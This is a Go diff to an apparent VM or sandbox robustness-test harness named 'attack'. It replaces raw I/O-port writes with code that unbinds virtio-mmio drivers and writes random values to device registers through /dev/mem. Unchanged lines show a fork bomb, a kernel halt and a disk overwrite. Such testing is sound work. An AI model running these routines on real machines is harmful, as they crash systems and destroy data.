@@ -3,13 +3,17 @@ package attack
 import (
 	"bytes"
 	"context"
+	"errors"
 	"fmt"
+	"math/rand/v2"
 	"os"
 	"os/exec"
 	"path/filepath"
 	"runtime"
+	"slices"
 	"strconv"
 	"strings"
+	"unsafe"
 
 	"golang.org/x/sys/unix"
 
@@ -44,7 +48,7 @@ var ends = []attack{
 	{"kernel-halt", announced("kernel-halt", func(context.Context) (int, error) {
 		return 1, unix.Reboot(unix.LINUX_REBOOT_CMD_HALT)
 	})},
-	{"io-ports", announced("io-ports", pokePorts)},
+	{"device-registers", announced("device-registers", pokeDevices)},
 	{"own-disk-overwritten", announced("own-disk-overwritten", overwriteDisk)},
 }
 
@@ -163,15 +167,85 @@ func forkBomb(context.Context) (int, error) {
 	return 1, exec.Command("/bin/sh", "-c", "bomb() { bomb | bomb & }; bomb; wait").Run()
 }
 
-// pokePorts writes to all I/O ports there are what comes to mind.
-func pokePorts(ctx context.Context) (int, error) {
-	ports, err := os.OpenFile("/dev/port", os.O_RDWR, 0)
+// pokeDevices writes to the registers of the machine's devices, past all
+// drivers: queues anywhere in memory and beyond it, of any size, and notices
+// that there is something in them (virtio 1.2, section 4.2.2).
+func pokeDevices(ctx context.Context) (int, error) {
+	// What is read from the disk later may not come any more.
+	if err := unix.Mlockall(unix.MCL_CURRENT | unix.MCL_FUTURE); err != nil {
+		return 0, err
+	}
+	const drivers = "/sys/bus/platform/drivers/virtio-mmio"
+	devices, err := filepath.Glob(drivers + "/*:*")
 	if err != nil {
 		return 0, err
 	}
-	defer ports.Close()
+	ranges, err := os.ReadFile("/proc/iomem")
+	if err != nil {
+		return 0, err
+	}
+	memory, err := os.OpenFile("/dev/mem", os.O_RDWR|unix.O_SYNC, 0)
+	if err != nil {
+		return 0, err
+	}
+	defer memory.Close()
+	const page = 4096
+	at := func(device string) (address int64) {
+		for line := range strings.Lines(string(ranges)) {
+			if strings.Contains(line, filepath.Base(device)) {
+				fmt.Sscanf(strings.TrimSpace(line), "%x-", &address)
+			}
+		}
+		return address
+	}
+	// The agent's ports stay, to tell what became of it, and what is in one page
+	// with them: nobody may write to that of a device which has a driver.
+	all := slices.Clone(devices)
+	devices = slices.DeleteFunc(devices, func(device string) bool {
+		return slices.ContainsFunc(all, func(other string) bool {
+			ports, _ := filepath.Glob(filepath.Join(other, "virtio*", "virtio-ports"))
+			return len(ports) > 0 && at(other)/page == at(device)/page
+		})
+	})
+	for _, device := range devices {
+		if err := os.WriteFile(drivers+"/unbind", []byte(filepath.Base(device)), 0); err != nil {
+			return 0, err
+		}
+	}
+	var registers [][]byte
+	for _, device := range devices {
+		mapped, err := unix.Mmap(int(memory.Fd()), at(device)&^(page-1), page, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
+		if err != nil {
+			return 0, fmt.Errorf("map registers of %s: %w", filepath.Base(device), err)
+		}
+		registers = append(registers, mapped[at(device)&(page-1):][:0x200])
+	}
+	if len(registers) == 0 {
+		return 0, errors.New("there is no device but the agent's")
+	}
+	set := func(r []byte, offset int, value uint32) {
+		*(*uint32)(unsafe.Pointer(&r[offset])) = value
+	}
 	return repeat(ctx, func(i int) error {
-		_, _ = ports.WriteAt(random(1), int64(i%(1<<16))) // there is not a device at each
+		r := registers[i%len(registers)]
+		const selectQueue, size, ready, notify, status = 0x30, 0x38, 0x44, 0x50, 0x70
+		set(r, status, 0)
+		set(r, status, 0xb) // acknowledged, a driver, features chosen
+		for queue := range uint32(3) {
+			set(r, selectQueue, queue)
+			set(r, size, rand.Uint32N(1024))
+			for _, address := range []int{0x80, 0x90, 0xa0} { // descriptors, and both rings
+				set(r, address, rand.Uint32())
+				set(r, address+4, rand.Uint32N(2))
+			}
+			set(r, ready, 1)
+		}
+		set(r, status, 0xf)
+		for queue := range uint32(5) {
+			set(r, notify, queue)
+		}
+		// Whatever else there is.
+		set(r, 4*rand.IntN(len(r)/4), rand.Uint32())
 		return nil
 	})
 }
